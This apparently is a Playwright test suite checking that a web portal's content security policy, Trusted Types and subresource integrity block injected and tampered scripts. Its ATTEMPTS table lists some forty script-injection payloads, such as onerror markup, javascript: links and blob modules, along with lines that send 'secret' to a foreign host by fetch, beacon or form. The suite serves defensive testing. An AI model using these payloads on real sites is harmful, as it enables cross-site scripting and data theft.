"""What a script that got into the page could try, tried: each attempt fails, and nothing reaches another host."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.bystander import Bystander
from tests.browser.middlebox import Middlebox, Request, Response
from tests.browser.portal_process import PortalProcess
from tests.browser.stage import Stage

# Each is the body of a function with `foreign` (an origin), `frame` and `blob(text, type)` at hand, and counts as
# successful if it calls `reached()`, or reaches the foreign host. `element(name, properties)` makes and adds one.
ATTEMPTS = {
    "eval": "(0, eval)('window.reached()')",
    "a function from text": "new Function('window.reached()')()",
    "a timer from text": "setTimeout('window.reached()')",
    "an inline script": "element('script', {textContent: 'window.reached()'})",
    "an inline script by text node": "element('script', {}, document.createTextNode('window.reached()'))",
    "markup by innerHTML": "element('div', {}).innerHTML = '<img src=x onerror=window.reached()>'",
    "markup by outerHTML": "element('div', {}).outerHTML = '<img src=x onerror=window.reached()>'",
    "markup by insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<p id=smuggled>')",
    "markup by document.write": "document.write('<p id=smuggled>')",
    "markup by a range": "document.body.append(document.createRange().createContextualFragment('<p id=smuggled>'))",
    "markup by srcdoc": "element('iframe', {srcdoc: '<script>parent.reached()<\\/script>'})",
    "an event handler attribute": "element('img', {}).setAttribute('onerror', 'window.reached()')",
    "a javascript: link": "element('a', {href: 'javascript:window.reached()'}).click()",
    "a second policy of our name": "trustedTypes.createPolicy('portal', {createScript: (text) => text}); reached()",
    "a policy of another name": "trustedTypes.createPolicy('guest', {createScript: (text) => text}); reached()",
    "a default policy": "trustedTypes.createPolicy('default', {createHTML: (text) => text}); reached()",
    "a script from a blob": "element('script', {src: blob('window.reached()', 'text/javascript')})",
    "a module from a blob": "import(blob('window.reached()', 'text/javascript')).then(reached)",
    "a module from text": "import('data:text/javascript,window.reached()').then(reached)",
    "a script from another host": "element('script', {src: foreign + '/script.js'})",
    "a module from another host": "import(foreign + '/module.js').then(reached)",
    "a worker from a blob": "new Worker(blob('postMessage(1)', 'text/javascript')).onmessage = reached",
    "a worker from text": "new Worker('data:text/javascript,postMessage(1)').onmessage = reached",
    "a shared worker from a blob": "new SharedWorker(blob('0', 'text/javascript')).onerror = () => {}",
    "a service worker": "navigator.serviceWorker.register(foreign + '/worker.js').then(reached)",
    "a fetch": "fetch(foreign + '/fetch', {mode: 'no-cors'}).then(reached)",
    "a posted fetch": "fetch(foreign + '/post', {mode: 'no-cors', method: 'POST', body: 'secret'}).then(reached)",
    "an XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', foreign + '/x'); x.onload = reached; x.send()",
    "a beacon": "navigator.sendBeacon(foreign + '/beacon', 'secret')",
    "a WebSocket": "new WebSocket(foreign.replace('http', 'ws') + '/socket').onopen = reached",
    "an EventSource": "new EventSource(foreign + '/events').onopen = reached",
    "a picture": "element('img', {src: foreign + '/picture.png'})",
    "a sound": "element('audio', {src: foreign + '/sound.ogg'}).load()",
    "a style sheet": "element('link', {rel: 'stylesheet', href: foreign + '/style.css'})",
    "a style element": "element('style', {textContent: '@import url(' + foreign + '/import.css)'})",
    "a style attribute": "element('p', {}).setAttribute('style', 'background: url(' + foreign + '/background.png)')",
    "a font": "new FontFace('guest', 'url(' + foreign + '/font.woff2)').load().then(reached)",
    "a frame": "element('iframe', {src: foreign + '/frame'})",
    "a frame of our own": "element('iframe', {src: '/'}).onload = (event) => { if (frame(event)) reached() }",
    "an object": "element('object', {data: foreign + '/object'})",
    "an embedded file": "element('embed', {src: foreign + '/embed'})",
    "a form": "element('form', {action: foreign + '/form', method: 'post'}).submit()",
    "a prefetch": "element('link', {rel: 'prefetch', href: foreign + '/prefetch'})",
    "another base address": "element('base', {href: foreign + '/'}); fetch('based').catch(() => {})",
}

# Inside setTimeout, because what Playwright evaluates itself is exempt from the ban on eval.
TRY = """(foreign) => new Promise((resolve) => setTimeout(() => {
  const outcome = {reached: false, refusals: []};
  window.reached = () => { outcome.reached = true; };
  const added = [];
  const element = (name, properties, ...children) => {
    const made = document.createElement(name);
    added.push(made);
    made.append(...children);
    document.body.append(made);
    Object.assign(made, properties);
    if (name === 'script') document.head.append(made);
    return made;
  };
  const blob = (text, type) => URL.createObjectURL(new Blob([text], {type}));
  const frame = (event) => {
    try { return event.target.contentDocument.querySelector('script'); } catch { return null; }
  };
  const note = (event) => outcome.refusals.push(event.violatedDirective || String(event.reason || event.error));
  document.addEventListener('securitypolicyviolation', note);
  const rejected = (event) => { event.preventDefault(); outcome.refusals.push(String(event.reason)); };
  window.addEventListener('unhandledrejection', rejected);
  try {
    body_of_attempt;
  } catch (error) {
    outcome.refusals.push(String(error));
  }
  setTimeout(() => {
    outcome.reached ||= document.getElementById('smuggled') !== null;
    document.removeEventListener('securitypolicyviolation', note);
    window.removeEventListener('unhandledrejection', rejected);
    for (const one of added) one.remove();
    resolve(outcome);
  }, 300);
}, 0))"""


@pytest.fixture(scope="module")
def bystander() -> Iterator[Bystander]:
    with Bystander() as listening:
        yield listening


@pytest.fixture(scope="module")
def page(browser: Browser, portal: PortalProcess) -> Iterator[Page]:
    """One page for all the attempts; its console is full of refusals, which is what they are there for."""
    with Stage(browser, portal.origin) as opened:
        profile = opened.profile("intruder")
        profile.watch.expects("")
        yield profile.opens()


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_an_intruding_script_gets_nowhere(page: Page, bystander: Bystander, attempt: str) -> None:
    outcome = page.evaluate(TRY.replace("body_of_attempt", ATTEMPTS[attempt]), bystander.origin)
    assert outcome["refusals"], f"{attempt} was not refused by anything"
    assert not outcome["reached"], f"{attempt} succeeded"
    assert bystander.callers == []


def test_the_bystander_would_have_noticed(stage: Stage, bystander: Bystander) -> None:
    stage.profile("someone elsewhere").page.goto(f"{bystander.origin}/noticed")
    assert "GET /noticed HTTP/1.1" in bystander.callers
    bystander.callers.clear()


@pytest.fixture
def tampering(portal: PortalProcess) -> Iterator[tuple[Middlebox, str]]:
    """A middlebox before the shared server, and the address at which it listens."""
    with Middlebox(portal.side_port, portal.port) as middlebox:
        yield middlebox, portal.side_origin


def with_body(response: Response, body: bytes) -> Response:
    return Response(response.status, response.headers, body)


def test_a_script_with_one_byte_changed_does_not_run(stage: Stage, tampering: tuple[Middlebox, str]) -> None:
    middlebox, origin = tampering
    changed = []

    def change(request: Request, response: Response) -> Response:
        if not re.fullmatch(r"/static/main-\w+\.js", request.path):
            return response
        changed.append(request.path)
        return with_body(response, response.body + b" ")

    middlebox.on_response = change
    intruded = stage.profile("victim")
    intruded.watch.expects("integrity")
    intruded.page.goto(f"{origin}/")
    intruded.page.wait_for_load_state("networkidle")
    assert changed, "the page asked for no main script"
    assert any("integrity" in problem for problem in intruded.watch.all_problems())
    expect(intruded.page.get_by_role("textbox")).to_have_count(0)


@pytest.mark.parametrize("policy", ["as it is", "without Integrity-Policy"])
def test_a_script_without_integrity_does_not_run(stage: Stage, tampering: tuple[Middlebox, str], policy: str) -> None:
    middlebox, origin = tampering
    bare = b'<script type="module" src="/static/guest.js"></script></head>'
    asked = []

    def change(request: Request, response: Response) -> Response:
        if request.path == "/static/guest.js":
            asked.append(request.path)
            return Response(200, (("Content-Type", "text/javascript"),), b"document.body.dataset.guest = 'reached'")
        if request.path != "/":
            return response
        kept = tuple(header for header in response.headers if policy == "as it is" or header[0] != "Integrity-Policy")
        return Response(response.status, kept, response.body.replace(b"</head>", bare))

    middlebox.on_response = change
    page = stage.profile("victim").page
    page.goto(f"{origin}/")
    expect(page.locator("script[src='/static/guest.js']")).to_have_count(1)
    expect(page.get_by_role("textbox").first).to_be_visible()
    reached = page.evaluate("document.body.dataset.guest === 'reached'")
    assert reached == (policy != "as it is")
    assert asked == ([] if policy == "as it is" else ["/static/guest.js"])
